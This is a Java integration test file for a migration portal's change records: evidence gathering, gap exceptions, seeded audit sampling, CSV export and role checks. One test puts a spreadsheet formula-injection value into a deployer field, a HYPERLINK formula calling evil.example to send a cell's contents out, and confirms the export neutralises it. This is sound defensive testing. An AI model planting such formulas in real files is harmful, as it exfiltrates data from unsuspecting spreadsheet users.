package org.migrationportal.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.migrationportal.audit.AuditEntries;
import org.migrationportal.audit.AuditEntryFilter;
import org.migrationportal.projects.ProjectCatalog;
import org.migrationportal.support.PortalIntegrationTest;
import org.migrationportal.support.TestData;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.MockMvc;

/** A change record gathers a production deployment's evidence and its gaps; samples are reproducible from their seed. */
@PortalIntegrationTest
class ChangeRecordTests {

    @Autowired
    TestData data;

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    ProjectCatalog catalog;

    @Autowired
    ChangeRecords changeRecords;

    @Autowired
    AuditEntries entries;

    @Autowired
    MockMvc mvc;

    @Autowired
    ChangeRecordExports changeRecordExports;

    String project;
    EvidenceFixtures evidence;
    Instant start = Instant.now().truncatedTo(ChronoUnit.SECONDS).minus(30, ChronoUnit.DAYS);
    long goodDeployment;
    long humanDeployment;

    @BeforeEach
    void aProjectWithProductionDeployments() {
        project = TestData.uniqueKey("changes");
        data.project(project);
        evidence = new EvidenceFixtures(jdbc, catalog, project);
        evidence.migration("a1", null, "alice", false);
        evidence.migration("b2", "a1", "alice", true);
        evidence.ciRun("c0ffee1", "bob");
        evidence.backup("prod", "bk-1", start.plus(2, ChronoUnit.HOURS), true);
        evidence.deployment(
                "staging",
                "c0ffee1",
                null,
                "b2",
                "succeeded",
                start.plus(1, ChronoUnit.HOURS),
                "pipeline",
                "deploy-bot",
                null);
        goodDeployment = evidence.deployment(
                "prod",
                "c0ffee1",
                "a1",
                "b2",
                "succeeded",
                start.plus(3, ChronoUnit.HOURS),
                "pipeline",
                "deploy-bot",
                "bk-1");
        humanDeployment = evidence.deployment(
                "prod", "deadbee", "b2", "b2", "failed", start.plus(5, ChronoUnit.HOURS), "human", "mallory", null);
        for (int i = 0; i < 10; i++) {
            evidence.deployment(
                    "prod",
                    "c0ffee1",
                    "a1",
                    "b2",
                    "succeeded",
                    start.plus(10 + i, ChronoUnit.HOURS),
                    "pipeline",
                    "deploy-bot",
                    null);
        }
    }

    @Test
    void aRecordGathersTheDeploymentsEvidence() {
        ChangeRecord record = changeRecords.find(goodDeployment).orElseThrow();
        assertThat(record.projectKey()).isEqualTo(project);
        assertThat(record.environmentKey()).isEqualTo("prod");
        assertThat(record.ci().checks())
                .extracting(ChangeRecord.CheckEvidence::name)
                .containsExactly("lint", "heads", "smoke", "drift");
        assertThat(record.ci().reviews())
                .extracting(ChangeRecord.ReviewEvidence::reviewer)
                .containsExactly("bob");
        assertThat(record.migrations())
                .extracting(ChangeRecord.MigrationEvidence::revision)
                .containsExactly("b2");
        assertThat(record.destructive()).isTrue();
        assertThat(record.migrations().get(0).operations().get(0).type()).isEqualTo("drop_column");
        assertThat(record.backup().backupRef()).isEqualTo("bk-1");
        assertThat(record.stagingVerification().environmentKey()).isEqualTo("staging");
        assertThat(record.approvals()).isEmpty();
        assertThat(record.gate()).isNull();
        assertThat(record.exceptions())
                .containsExactly("Destructive migration b2: no approval request covered this migration.");
    }

    @Test
    void gapsInTheEvidenceAreListedAsExceptions() {
        ChangeRecord record = changeRecords.find(humanDeployment).orElseThrow();
        assertThat(record.exceptions())
                .anyMatch(e -> e.contains("human (mallory)"))
                .anyMatch(e -> e.contains("status is failed"))
                .anyMatch(e -> e.contains("No CI run is recorded for commit deadbee"));
    }

    @Test
    void deploymentsOutsideProductionAreNotChangeRecords() {
        List<ChangeRecordSummary> all = changeRecords.list(new ChangeRecordFilter(project, null, null, null), 0, 100);
        assertThat(all).hasSize(12).allMatch(s -> s.environmentKey().equals("prod"));
    }

    @Test
    void theSameSeedDrawsTheSameSampleAndTheSampleIsAudited() {
        ChangeRecordFilter filter = new ChangeRecordFilter(project, "prod", start, start.plus(1, ChronoUnit.DAYS));
        ChangeRecordSample first = changeRecords.sample(filter, 5, 12345L);
        ChangeRecordSample again = changeRecords.sample(filter, 5, 12345L);
        ChangeRecordSample other = changeRecords.sample(filter, 5, 999L);
        assertThat(first.population()).isEqualTo(12);
        assertThat(first.records()).hasSize(5);
        assertThat(again.records())
                .extracting(ChangeRecord::deploymentId)
                .isEqualTo(
                        first.records().stream().map(ChangeRecord::deploymentId).toList());
        assertThat(other.records())
                .extracting(ChangeRecord::deploymentId)
                .isNotEqualTo(
                        first.records().stream().map(ChangeRecord::deploymentId).toList());
        assertThat(entries.page(
                                new AuditEntryFilter(
                                        project, "prod", null, "export.change-records-sampled", null, null),
                                0,
                                10)
                        .items())
                .hasSize(3)
                .anyMatch(e -> e.details().contains("\"seed\":12345"));
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAreNeutralised() throws Exception {
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
        evidence.deployment(
                "prod", "c0ffee1", "a1", "b2", "succeeded", start.plus(40, ChronoUnit.HOURS), "human", formula, null);
        evidence.deployment(
                "prod", "c0ffee1", "a1", "b2", "succeeded", start.plus(41, ChronoUnit.HOURS), "human", "@SUM(1)", null);
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        changeRecordExports.write(new ChangeRecordFilter(project, "prod", null, null), ExportFormat.CSV, out, null);
        List<org.apache.commons.csv.CSVRecord> rows = org.apache.commons.csv.CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new java.io.StringReader(out.toString(java.nio.charset.StandardCharsets.UTF_8)))
                .getRecords();
        assertThat(rows).extracting(r -> r.get("deployer")).contains("'" + formula, "'@SUM(1)", "deploy-bot");
        assertThat(rows.stream().flatMap(r -> java.util.Arrays.stream(r.values())))
                .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
    }

    @Test
    void theListAndTheRecordPageShowTheEvidence() throws Exception {
        String list = mvc.perform(get("/audit/changes")
                        .param("project", project)
                        .with(user("auditor").roles("AUDITOR")))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString();
        assertThat(list).contains("/audit/changes/" + goodDeployment).contains("mallory");
        String sample = mvc.perform(get("/audit/changes")
                        .param("project", project)
                        .param("sample", "3")
                        .param("seed", "77")
                        .with(user("auditor").roles("AUDITOR")))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString();
        assertThat(sample).contains("77");
        String page = mvc.perform(get("/audit/changes/" + goodDeployment)
                        .with(user("auditor").roles("AUDITOR")))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString();
        assertThat(page).contains("bk-1").contains("drop_column").contains("bob");
        mvc.perform(get("/audit/changes/" + goodDeployment).with(user("viewer").roles("VIEWER")))
                .andExpect(status().isForbidden());
    }
}
